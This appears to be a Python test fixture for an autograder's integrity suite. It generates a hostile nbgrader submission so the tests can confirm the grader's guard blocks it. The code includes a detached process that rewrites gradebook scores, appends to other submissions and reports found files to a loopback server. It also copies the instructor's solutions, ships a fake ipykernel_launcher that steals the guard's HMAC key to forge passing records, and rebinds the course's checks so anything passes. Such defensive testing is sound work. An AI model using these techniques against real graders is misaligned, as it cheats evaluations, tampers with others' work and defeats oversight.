"""One hostile submission per notebook: every answer a stub, and every route around the grader
that a guard inside the kernel cannot close, tried at once (tests/test_integrity.py grades it).

- **Outside the cells.** A process started by the notebook outlives its cell and, for minutes,
  looks for gradebooks and writes full marks into them, appends to the grader's own files and to
  every submitted notebook it can find, and sends what it found to a server of the test's on the
  grading machine's loopback. Each stub also looks for the instructor's notebook on disk and runs
  its solution cells in place of itself. The submission ships an `ipykernel_launcher.py` next to
  the notebook that steals the guard's key from its plan and forges "ok" records.
- **nbgrader's scoring rules.** Each stub shows a huge value (an `execute_result`) before the check
  fails: nbgrader's partial-credit rule reads the first such value as the score.
- **The course's names.** A cell rebinds every function and class the course's locked cells define
  or import (the engine's checks and each lesson's helpers) to a function that passes anything,
  both in the notebook and in the engine module each was imported from (where the checks'
  helpers and the ranks may look it up).
  (Forged nbgrader metadata is refused by nbgrader itself: a changed flag on a course cell breaks
  its checksum, and a new cell with nbgrader metadata fails validation; the guard takes the cells'
  kinds from the instructor's notebook all the same.)
- **Knowing it is graded.** A cell prints its environment and working folder, for the test to read.

Any route that worked earns points on stubs, leaves a process, a changed file or a message behind,
or shows in the printed environment.
"""
from __future__ import annotations

import ast
import json
import sys

import nbformat

from background import ROOT

sys.path.insert(0, str(ROOT / "autograder"))
from guarded_execute import cell_kind  # noqa: E402  (which cell is which, as the grader decides)

MARKER = "nanoparallel-hostile-submission"


def marker(assignment: str) -> str:
    """The writer's mark in its command line: one per class, since the suite grades several
    classes at once and another class's writer may be alive, legitimately, inside its own
    still-running sandbox."""
    return f"{MARKER}-{assignment}"
PROBE = "HOSTILE-PROBE:"

# Run detached, with the marker in its command line; lives up to 150 s whatever happens to the kernel.
WRITER = r'''
import glob, json, os, socket, sqlite3, sys, time
port, own = int(sys.argv[1]), sys.argv[2]
end = time.time() + 150
def roots():
    here = os.getcwd()
    while here != "/":
        yield here
        here = os.path.dirname(here)
    yield from ("/tmp", "/root", "/home", "/work", "/var/tmp")
while time.time() < end:
    found = set()
    for root in roots():
        for path in glob.glob(os.path.join(root, "**", "gradebook.db"), recursive=True)[:20]:
            found.add(path)
    for db in found:
        try:
            with sqlite3.connect(db, timeout=1) as con:
                con.execute("UPDATE grade SET manual_score = 1000")
        except Exception:
            pass
        course = os.path.dirname(db)
        for py in glob.glob(os.path.join(course, "*.py")) + glob.glob(os.path.join(course, "submitted", "*", "*", "*")):
            try:
                with open(py, "a") as f:
                    f.write("\n# hostile-submission" + "-was-here (" + own + ")\n")  # the phrase is never in the notebook
            except Exception:
                pass
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
            s.sendall(json.dumps(sorted(found)).encode() or b"[]")
    except Exception:
        pass
    time.sleep(0.5)
'''

PRELUDE = '''
import json as _json, os as _os, subprocess as _subprocess, sys as _sys
print({probe!r}, _json.dumps({{"env": sorted(_os.environ), "cwd": _os.getcwd(), "files": sorted(_os.listdir("."))}}))
_subprocess.Popen([_sys.executable, "-c", {writer!r}, "{port}", {marker!r}], start_new_session=True,
                  stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)

def _shout():
    ip = getattr(__import__("builtins"), "get_ipython", lambda: None)()
    if ip is not None:
        ip.displayhook(10 ** 6)

def _copy_the_solution():
    import glob, json, os
    places = [{root!r}, "/tmp", "/root", "/home", "/work"]
    for place in places:
        for path in glob.glob(os.path.join(place, "**", "solutions", {assignment!r}, {assignment!r} + ".ipynb"),
                              recursive=True)[:1]:
            for cell in json.load(open(path))["cells"]:
                if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                    exec("".join(cell["source"]), globals())
            return
'''

# Shipped next to the notebook: where the kernel's working folder is the submission's, `python -m
# ipykernel_launcher` runs this instead of IPython's launcher, before the guard loads.
LAUNCHER = r'''
import hashlib, hmac, json, os, sys
plan_path = os.environ.get("NANOPARALLEL_GUARD")
if plan_path:
    plan = json.load(open(plan_path))
    key = bytes.fromhex(plan["key"])
    fd = plan.get("records_fd")
    if fd is None:
        fd = os.open(plan["records"], os.O_WRONLY | os.O_APPEND)
    def forge(entry):
        body = json.dumps(entry, sort_keys=True)
        os.write(fd, (hmac.new(key, body.encode(), hashlib.sha256).hexdigest() + " " + body + "\n").encode())
    forge({"kind": "installed"})
    for nonce, cell in plan["cells"].items():
        if cell["kind"] == "graded":
            forge({"kind": "graded", "nonce": nonce, "grade_id": cell["grade_id"], "status": "ok", "findings": []})
sys.path = [p for p in sys.path if p not in ("", ".", os.getcwd())]
del sys.modules["ipykernel_launcher"]
import runpy
runpy.run_module("ipykernel_launcher", run_name="__main__")
'''


def stub(source: str) -> str:
    """The same names as the solution cell, each a function that shouts and returns None (or None
    itself), then whatever solution can be found on disk."""
    lines = []
    for node in ast.parse(source).body:
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            lines += [f"def {node.name}(*args, **kwargs):", "    _shout()", "    return None"]
        elif isinstance(node, ast.ClassDef):
            lines += [f"class {node.name}:", "    def __init__(self, *args, **kwargs):", "        _shout()"]
        elif isinstance(node, (ast.Assign, ast.AnnAssign)):
            for target in node.targets if isinstance(node, ast.Assign) else [node.target]:
                for name in ast.walk(target):
                    if isinstance(name, ast.Name):
                        lines.append(f"{name.id} = None")
    return "\n".join(lines + ["_copy_the_solution()"])


def _locked_statements(nb):
    """The top-level statements of the course's locked cells (those that parse)."""
    for cell in nb.cells:
        if cell_kind(cell) != "locked":
            continue
        try:
            yield from ast.parse(cell.source.replace("%matplotlib inline", "")).body
        except SyntaxError:
            continue


def course_callables(nb) -> list[str]:
    """Functions and classes the course's locked cells define or import (not modules or data)."""
    names = []
    for node in _locked_statements(nb):
        if isinstance(node, (ast.FunctionDef, ast.ClassDef)):
            names.append(node.name)
        elif isinstance(node, ast.ImportFrom):
            names += [a.asname or a.name for a in node.names if a.name[:1].isupper() or
                      a.name.startswith(("assert", "check", "make", "train", "run", "megatron", "reference"))
                      or "_" in a.name and not a.name.isupper()]
    return sorted(set(names))


def engine_sources(nb, names: list[str]) -> list[tuple[str, str]]:
    """(module, name) for each of `names` that a locked cell imports from the engine: the module
    attribute that the checks' helpers may read instead of the notebook's name."""
    return sorted({(node.module, a.name) for node in _locked_statements(nb) if isinstance(node, ast.ImportFrom)
                   and (node.module or "").startswith("nanoparallel") for a in node.names
                   if (a.asname or a.name) in names})


def submission(assignment: str, port: int) -> tuple:
    """(notebook, files shipped next to it) of the hostile submission for `assignment`."""
    nb = nbformat.read(ROOT / "solutions" / assignment / f"{assignment}.ipynb", as_version=4)
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    rebound = course_callables(nb)
    setup = next(i for i, c in enumerate(nb.cells) if cell_kind(c) == "locked")
    for cell in nb.cells:
        if cell_kind(cell) == "solution":
            cell.source = stub(cell.source)
    patched = [f"setattr(__import__('sys').modules[{module!r}], {name!r}, lambda *args, **kwargs: None)"
               for module, name in engine_sources(nb, rebound)]
    rebind = nbformat.v4.new_code_cell("\n".join([f"{name} = lambda *args, **kwargs: None" for name in rebound]
                                                   + patched))
    prelude = nbformat.v4.new_code_cell(PRELUDE.format(
        probe=PROBE, writer=WRITER, port=port, marker=marker(assignment), root=str(ROOT), assignment=assignment))
    nb.cells[setup + 1:setup + 1] = [prelude, rebind]
    return nb, {"ipykernel_launcher.py": LAUNCHER, "notes.txt": "shipped next to the notebook\n"}
